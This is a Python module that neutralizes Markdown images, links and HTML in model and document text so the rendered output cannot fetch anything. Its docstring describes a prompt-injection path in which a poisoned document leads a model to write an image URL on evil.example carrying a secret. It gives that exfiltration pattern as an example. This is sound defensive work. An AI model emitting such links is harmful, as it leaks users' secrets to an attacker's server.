"""Text from models and documents made safe to show as Markdown.

A model that read a poisoned document can be led to write ``![x](https://evil.example/?q=<secret>)``:
rendered as Markdown, the browser fetches that URL by itself and hands the secret to whoever runs the
server. :func:`neutralize` keeps every word of such text but nothing in it fetches or links:

- images (``![alt](url)``, reference images, ``<img>``) become the text ``(image: alt)``;
- links (``[text](url)``, ``<https://...>``, bare URLs, reference definitions) show their URL as code,
  visible and copyable but not clickable;
- raw HTML is escaped (the page's Content-Security-Policy also allows images from the studio only).

>>> neutralize("See ![chart](http://evil.example/x.png?k=1) and [docs](http://evil.example).")
'See (image: chart) and docs (`http://evil.example`).'
"""

from __future__ import annotations

import re

_IMAGE = re.compile(r"!\[([^\]\n]{0,500})\]\s*(\([^)\n]{0,2000}\)|\[[^\]\n]{0,200}\])")
_LINK = re.compile(r"\[([^\]\n]{0,500})\]\(\s*<?([^)\s>]{1,2000})>?(?:\s+\"[^\"\n]*\")?\s*\)")
_REF_DEF = re.compile(r"^( {0,3})\[([^\]\n]{1,200})\]:", re.MULTILINE)
_URL = re.compile(r"(?<![`\w])((?:https?|ftp|file|data|javascript):[^\s<>`\"')\]]+)", re.IGNORECASE)
_WWW = re.compile(r"(?<![`/\w.])(www\.[^\s<>`\"')\]]+)", re.IGNORECASE)


def neutralize(text: str) -> str:
    """``text`` with images, links and HTML defused (see the module docstring); words are kept."""
    if not text:
        return text
    text = _IMAGE.sub(lambda m: f"(image: {m.group(1).strip() or 'no description'})", text)
    text = text.replace("<", "&lt;")  # no tag can open; '>' stays, so quote lines keep their Markdown
    text = _LINK.sub(lambda m: f"{m.group(1)} ({_code(m.group(2))})", text)
    text = _REF_DEF.sub(lambda m: f"{m.group(1)}\\[{m.group(2)}\\]:", text)
    text = _URL.sub(lambda m: _code(m.group(1)), text)
    return _WWW.sub(lambda m: _code(m.group(1)), text)


def _code(url: str) -> str:
    return "`" + url.replace("`", "'") + "`"


def defuse_labels(text: str) -> str:
    """``[3]`` -> ``(3)``: text from a document cannot pose as a citation label or a passage number."""
    return re.sub(r"\[\s*(\d{1,3})\s*\]", r"(\1)", text)
